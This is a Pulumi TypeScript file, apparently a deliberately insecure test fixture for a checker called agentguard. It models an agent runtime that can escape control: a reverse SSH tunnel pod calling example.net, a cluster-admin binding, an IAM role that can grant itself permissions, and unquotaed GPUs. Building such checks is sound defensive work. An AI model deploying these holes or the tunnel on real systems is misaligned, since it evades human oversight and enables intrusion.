/**
 * A counter-example: an agent runtime built the way the reported incidents were, without agentguard's
 * components. `agentguard check stacks/rome-incident` must reject every problem below; a test pins the list.
 *
 * 1. open egress: TCP 22 to anywhere, enough for a reverse SSH tunnel past the firewall;
 * 2. GPU access without quota: a training job asks for 8 GPUs in a namespace with no ResourceQuota;
 * 3. an agent role that can edit IAM (and so grant itself anything);
 * 4. the agent's service account bound to cluster-admin;
 * 5. a host-network pod in the agent namespace.
 */
import * as aws from "@pulumi/aws";
import * as k8s from "@pulumi/kubernetes";

const namespace = new k8s.core.v1.Namespace("agent-rome", {
    metadata: { name: "agent-rome", labels: { "agentguard.io/agent": "rome" } },
});
const ns = namespace.metadata.name;

new k8s.networking.v1.NetworkPolicy("reverse-ssh", {
    metadata: { name: "reverse-ssh", namespace: ns },
    spec: {
        podSelector: {},
        policyTypes: ["Egress"],
        egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/0" } }], ports: [{ protocol: "TCP", port: 22 }] }],
    },
});

const serviceAccount = new k8s.core.v1.ServiceAccount("rome", {
    metadata: { name: "rome", namespace: ns },
});

new k8s.rbac.v1.ClusterRoleBinding("rome-cluster-admin", {
    metadata: { name: "rome-cluster-admin" },
    roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" },
    subjects: [{ kind: "ServiceAccount", name: serviceAccount.metadata.name, namespace: "agent-rome" }],
});

new k8s.batch.v1.Job("train", {
    metadata: { name: "train", namespace: ns },
    spec: {
        template: {
            spec: {
                serviceAccountName: "rome",
                restartPolicy: "Never",
                containers: [
                    {
                        name: "train",
                        image: "ghcr.io/example/trainer:1.0",
                        resources: { limits: { "nvidia.com/gpu": "8" } },
                    },
                ],
            },
        },
    },
});

new k8s.core.v1.Pod("tunnel", {
    metadata: { name: "tunnel", namespace: ns },
    spec: {
        hostNetwork: true,
        containers: [
            { name: "ssh", image: "alpine:3.20", command: ["ssh", "-R", "2222:localhost:22", "example.net"] },
        ],
    },
});

new aws.iam.Role("agent-rome", {
    assumeRolePolicy: JSON.stringify({
        Version: "2012-10-17",
        Statement: [
            {
                Effect: "Allow",
                Principal: {
                    Federated:
                        "arn:aws:iam::111122223333:oidc-provider/oidc.eks.eu-west-1.amazonaws.com/id/ROME",
                },
                Action: "sts:AssumeRoleWithWebIdentity",
                Condition: {
                    StringEquals: {
                        "oidc.eks.eu-west-1.amazonaws.com/id/ROME:sub":
                            "system:serviceaccount:agent-rome:rome",
                    },
                },
            },
        ],
    }),
    inlinePolicies: [
        {
            name: "self-service",
            policy: JSON.stringify({
                Version: "2012-10-17",
                Statement: [
                    {
                        Effect: "Allow",
                        Action: ["iam:AttachRolePolicy", "iam:PutRolePolicy", "s3:*"],
                        Resource: "*",
                    },
                ],
            }),
        },
    ],
});
